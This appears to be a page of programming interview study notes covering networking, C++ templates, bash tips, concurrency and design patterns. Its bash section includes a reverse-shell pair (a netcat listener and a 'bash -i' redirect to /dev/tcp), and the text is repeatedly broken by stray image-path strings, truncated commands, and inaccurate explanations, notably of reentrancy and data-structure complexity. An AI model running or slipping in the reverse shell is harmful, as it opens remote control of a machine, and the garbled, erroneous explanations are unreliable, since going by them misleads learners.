If the data are constrained by an invariant – i.e., not all values arevalid – use a class.

class B {
  private: // <-- default for classes
  int x_; // must be between 0-1000


“Please Do Not Take Salami Pizza Away”

See OSI on Wikipedia.

Layer Function
Layer 7 Application
Layer 6 Presentation
Layer 5 Session
Layer 4 Transport
Layer 3 Network
Layer 2 Data Link
Layer 1 Physical

Three way handshake

The TCP three-way handshake is a process that is used in a TCP/IP network to establish a connection between a local host/client and a remote host/server. It is a three-step process that requires both the client and server to exchange SYN and ACK (acknowledgement) packets before actual data communication begins.

  1. The client sends a SYN packet to the server, requesting to open a connection.

  2. The server responds with a SYN-ACK packet, acknowledging the request and confirming that the connection can be opened.

  3. The clientresponds with an ACK packet, acknowledging the server’s SYN-ACK packet and confirming that the connection is established.Once this three-way handshake is complete, the client and server can communicate and exchange data.

SYN stands for “synchronise”.

=> SYN
=> ACK
=> HTTP (request)
<= ACK
<= HTTP (response)
=> ACK
=> FIN
=> ACK

Template metaprogramming

“Generic programming is why we can’t have nice things” – Andrei Alexandrescu

Template metaprogramming (TMP) is a technique used in C++ programming that utilizes template classes and functions to generate code at compile-time, asopposed to run-time. TMP is often used to improve the performance of code by removing the need for dynamic memory allocation and reducing the amount of code that needs to be written. It is also used to write generic code that can be used with any type of data structure or object. TMP can be used to solve complex problems that would otherwise be difficult to code. Examples of TMP include type traits, compile-time assertions, and recursive templates.

Templates are an important part of the C++ Standard Library, as they provide a way to create generic, type-independent algorithms and data structures. Templates allow developers to write code that can be reused with any type of data, without needing to rewrite the code for each specific data type. This reduces the amount of time and effort required to develop a program, as well as making it much easier to maintain and debug. Templates are used in the C++ Standard Library to define classes, such as containers and iterators, as well as algorithms, such as sorting and searching.


SFINAE (Substitution Failure Is Not An Error) is a C++ concept thatallows for the substitution of non-matching function templates without causing a compiler error. It works by ignoring any substitution that would cause a compiler error and then substituting the next viable template. This allows for more flexible template programming, as it allows for different templates to be used in different scenarios.

What are the most difficult concepts in computer science?


As a Linux developer you need a strong command line game. bash is ubiquitous, and a powerful language in itself, without resorting to something like Python.


git is awesome on the command line and pretty much essential. Use it to manage your chores.

See how to undo almost anything with git.Send a string to an IP/port

(echo hello; sleep 1) | telnet 80
echo hello > /dev/tcp/
echo hello | nc localhost 80

Reverse shell

# server
nc -knvlp 3389

# client
bash -i >& /dev/tcp/server_ip/3389 0>&1

Target everything but one file

git add !(unit.md)
shuf -n 1 readme.txt

From bash 5.




The three load average values are 1, 5 and 15 minutes.

15:29:28 up 20:23, 0 users, load average: 5.08, 1.49, 0.51


Stress your system in different ways.

stress --cpu 8
echo $(nproc)

Synonyms for localhost

0 # wut

Move a file out of the way

mv {,_}.bash_history

Repeat a commandwatch -d ip a

pushd equivalent

I use this all the time. Rather than pushd and popd to navigate around the file system:

# Navigate to new dir
cd ~/deanturpin.gitlab.io/content/post

# Return whence you came
cd -


You should be comfortableexplaining the complexity of your code. See the Big O Cheatsheet

Complexity Definition
Constant O(1)
Logarithmic O(log n)
Linear O(n)
Linearithmic O(n log n)
Quadratic O(n^2)
Cubic O(n^3)
Exponential O(2^n)

Comparing two fundamental data structures

Linked lists and arrays both have different complexities depending on the operation being performed. Generally speaking, the average complexity of linked lists is O(n) while the average complexity of arrays is O(1). This means that linked lists tend to be slower than arrays when performing operations, but they offer more flexibility and are better suited for dynamic data structures.Multi-threaded concepts are important: e.g., atomics, locks, issues with different designs, how to make things thread safe.


tl;dr “A computer program or subroutine is called reentrant if multiple invocations can safely run concurrently on a single processor system.”

Reentrancy is a programming concept in which a function can call itself while it is already running. This allows a function to repeat its operations until a certain condition is met. Reentrancy can be used to simplify complex programming tasks, such as looping and recursion. In addition, reentrant code can be used to improve performance, as the same code can be used multiple times without the need to start a new instance of thefunction each time.

Race conditions

tl;dr “Race condition: an unfortunate order of execution causes undesirable behaviour.”

A race condition in computer science is a situation or sequence of events where the output of a program or system is dependent on the timing or order of other events. This can occur when multiple threads or processes access shared resources in a shared environment without proper synchronization. In this case, the order in which the threads or processes run can affect the outcome of the program. If one thread runs before another, it can take ownership of the shared resource, causing the second thread to fail or return an incorrect result. Race conditions can cause unpredictable results or even system crashes.


Deadlocks and livelocks

Deadlocks and livelocks are both types of system resource contention that can occur in computer systems.

Deadlocks occur when two or more processes are waiting for the same resources and neither can continue until those resources are released by the other process. This creates an impasse where neither process can make any progress.

Livelocks, on the other hand, are situations where two or more processes are constantly trying to acquire the same resources, but none of them ever actually succeeds. This can lead to an infinite loop of attempts, with none of the processes ever making any progress.

Avoiding deadlocks

Run your code on different numbers of CPUs.It’s interesting how the bottlenecks move around depending on the available resources; and it’s really easy to write software that doesn’t run on onecore.

  1. Make sure that all transactions are shortand efficient.

  2. Ensure that alltransactions acquire locks in the same order.

  3. Use timeouts to avoid waiting for a resource that is locked by another transaction.

  4. Avoid using nested transactions.

  5. Use a deadlock detection and resolution mechanism to detect and resolve deadlocks.

  6. Minimize the number of locks per transaction.

  7. Use a read-committed isolation level.

  8. Monitor and analyze deadlock logs.

See also


Synchronising threads

A mutex is a synchronization primitive that allows only one thread to access a resource at a time. It is used to protect shared resources from concurrent access. A semaphore is a synchronization primitive that allows multiple threads to access a resource at a time. It is used to control access to a shared resource by several processes. A mutex is typically used to provide exclusive access to a resource, while a semaphore is used to control access to a resource by multiple processes.

See Mutex vs Semaphore

Threads versus processes

tl;dr A thread is a branch of execution. A process can consist of multiple threads.

Threads are a subset of processes. A process is a program in execution, while a thread is a single flow of control within the process. A process can contain multiple threads, which share the same address space and can communicate with each other. Threads have less overhead than processes, and so they can be used to improve the performance of an application.

Thread bests practice


Hash functionsA hash function is a mathematical algorithm that takes an input of any size and produces an output of a fixed size. It is used to provide a digital fingerprint of a piece of data and is typically used in cryptography and data security applications.

Properties of a hashing algorithm

String hashing

Design patterns

Design patterns are reusable solutions to commonly occurring problems in software design. The objective of design patterns is to provide developers with a reliable, easy-to-understand set of instructions for tackling a particular problem. They also provide a common language for developers to communicate about problems and solutions. Design patterns can help developers create more flexible, maintainable, and scalable code.


Common patterns

  1. Factory Pattern
  2. SingletonPattern
  3. Adapter Pattern
  4. Facade Pattern
  5. Observer Pattern
  6. Command Pattern
  7. Strategy Pattern
  8. Template Pattern
  9.Iterator Pattern
  10. Composite Pattern
  11. Prototype Pattern
  12. State Pattern
  13. Proxy Pattern
  14. Decorator Pattern

Factory pattern

The Factory Design Pattern is a software design pattern that is used to create objects or products. This pattern provides a way to create objects without exposing the creation logic to the client and refers to the newly created object using a common interface. It is one of the most commonly used creational patterns due to its simplicity.

The Factory Design Pattern consists of four components: a product interface, a concrete product, a factory interface, and a concrete factory. The product interface defines the interface of the product object and any methods or properties that the object must have. The concrete product is an implementation of the product interface. The factory interface defines the interface of the factory object and any methods or properties that the factory must have. The concrete factory is an implementation of the factory interface that is responsible for creating the product object.

The Factory Design Pattern can be used in scenarios where the type of object to be created is not known until runtime. It also enables the client to create objects without having to specify the exact type of object to be created. This pattern also allows the client to create a single instance of an object and use it throughout the application.

The Factory Design Pattern is a useful tool to keep code organized, flexible, and extensible. It also provides a way to create objects in an easilytestable manner. This pattern encourages code reuse and makes it easier to maintain code by isolating the creation process from the rest of the application.


Store a system configuration in an external text file and construct at runtime using the factory pattern.

Visitor pattern

The Visitor Design Pattern is a behavioral software design pattern that allows for the separation of an algorithm from an object structure on which it operates. It is one way to follow the open/closed principle. This pattern allows for a new operation to be added to a set of classes without having to modify any of the existing classes. It is often used when an object structure contains many objects of different types, and you need to perform an operation on all of them. The Visitor Pattern defines a new operation to a class without changing the class. Instead, a visitor class is created that takes the object reference as input, and then implements the operation. This makes it possible to add new operations to existing object structures without changing the objects themselves.

Double dispatch

The visitor pattern exploits a feature of subtype polymorphism named “double dispatch.”

Double dispatch in subtype polymorphism is a technique where two objects ofdifferent types are used to determine the behavior of a method. This technique occurs when a method call is made on an object and the method is dispatched based on both the type of the method and the type of the object being called. This allows for different behavior to be executed depending on the types of the objects being used. Double dispatch is an interesting technique as it enables an object to respond differently to a method call depending on the type of the object it is called on.


Create a class hierarchy of shapes and define methods that operate on those shapes in a visitor class.

Flyweight / singleton / memento

Hardware interface classes will typically be a const register map which is a flyweight pattern. This is also an example of a singleton pattern as it’s only initialised once regardless of how many instances are created. Additionally if registers are actually wired to discrete lines they might be read-only, so the memento pattern is used to store the internal state.


“In computer science, reflection is the ability of a process to examine, introspect, and modify its own structure and behavior.”

See Wikipedia.

Dependency inversion

Dependency inversion is a software design principle that states that high-level modules (e.g. business logic) should not depend on low-level modules (e.g. database access), but rather be decoupled from them. This helps to reduce the complexity of the software architecture and make it more extensible.


  1. SingleResponsibility Principle (SRP)
  2. Open/Closed Principle (OCP)
  3. Liskov Substitution Principle (LSP)
  4. Interface Segregation Principle (ISP)
  5. Dependency Inversion Principle (DIP)
  6. Demeter’s Law (Law of Demeter)


Less common but another set of principles to consider.

  1. Make things visible: Make information, objects, and actions visible to the user.
  2. Give direct manipulation: Allow users to directly manipulate objects to achieve the desired outcome.
  3. Strive for consistency: Use consistent language, organization, and navigation to reduce cognitive load.4. Offer shortcuts: Provide shortcuts and alternate methods to reduce the number of steps necessary to achieve a desired outcome.
  5. Offer feedback: Provide feedback on user actions so that users can understand the consequences of their actions.
  6. Design for error: Anticipate errors and design to prevent or minimize them.
